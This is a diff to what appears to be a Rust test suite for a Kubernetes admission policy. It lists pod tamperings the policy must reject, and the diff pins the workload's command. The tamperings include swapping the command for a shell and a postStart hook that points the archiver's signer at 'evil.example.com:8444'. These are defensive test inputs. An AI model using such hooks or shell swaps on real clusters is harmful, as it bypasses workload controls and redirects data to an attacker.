@@ -172,6 +172,7 @@ async fn pod(moorline: &Moorline, tenant: &Tenant<'_>, role: &str) -> Value {
             "securityContext": {"runAsNonRoot": true, "runAsUser": 65532, "seccompProfile": {"type": "RuntimeDefault"}},
             "containers": [{
                 "name": role, "image": class["spec"]["image"],
+                "command": ["/usr/bin/moorline-workload"],
                 "args": [if role == "relay" { "proxy" } else { "archive" }, "--camera", format!("{}/yard", tenant.name)],
                 "env": [
                     {"name": "MOORLINE_WORKLOAD__GATEWAY", "value": "moorline-mon.moorline-system.svc:8443"},
@@ -206,6 +207,15 @@ const ATTEMPTS: &[Attempt] = &[
         what: "a shell",
         role: "relay",
         change: |pod| pod["spec"]["containers"][0]["command"] = json!(["/bin/sh"]),
+        why: "proxy --camera",
+    },
+    Attempt {
+        what: "the image's other program",
+        role: "archiver",
+        change: |pod| {
+            let container = pod["spec"]["containers"][0].as_object_mut();
+            container.unwrap().remove("command");
+        },
         why: "proxy --camera",
     },
     Attempt {
@@ -279,7 +289,7 @@ const ATTEMPTS: &[Attempt] = &[
         what: "a hook that runs our program with other words",
         role: "archiver",
         change: |pod| {
-            let command = json!({"exec": {"command": ["moorline", "archive", "--signer", "evil.example.com:8444"]}});
+            let command = json!({"exec": {"command": ["moorline-workload", "archive", "--signer", "evil.example.com:8444"]}});
             pod["spec"]["containers"][0]["lifecycle"] = json!({"postStart": command});
         },
         why: "no hooks",
@@ -288,7 +298,8 @@ const ATTEMPTS: &[Attempt] = &[
         what: "a probe that does",
         role: "archiver",
         change: |pod| {
-            let command = json!({"exec": {"command": ["moorline", "proxy"]}, "periodSeconds": 10});
+            let command =
+                json!({"exec": {"command": ["moorline-workload", "proxy"]}, "periodSeconds": 10});
             pod["spec"]["containers"][0]["livenessProbe"] = command;
         },
         why: "no probes but by HTTP",
